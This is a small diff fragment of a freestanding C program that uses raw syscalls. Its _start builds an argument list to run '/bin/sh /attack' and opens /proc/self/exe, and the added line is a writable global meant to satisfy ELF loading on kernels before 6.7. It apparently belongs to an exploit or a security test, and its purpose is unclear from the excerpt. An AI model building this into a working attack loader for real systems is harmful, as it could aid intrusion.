@@ -91,6 +91,7 @@ static long call(long n, long a, long b, long c) {
 #define EXECVE 221
 #define EXIT 93
 #endif
+int written = 1; // before Linux 6.7 a loader must end with what can be written (binfmt_elf.c, padzero)
 void _start(void) {
     char *words[] = {"/bin/sh", "/attack", 0}, *none[] = {0};
     call(OPENAT, -100, (long)"/proc/self/exe", 0);
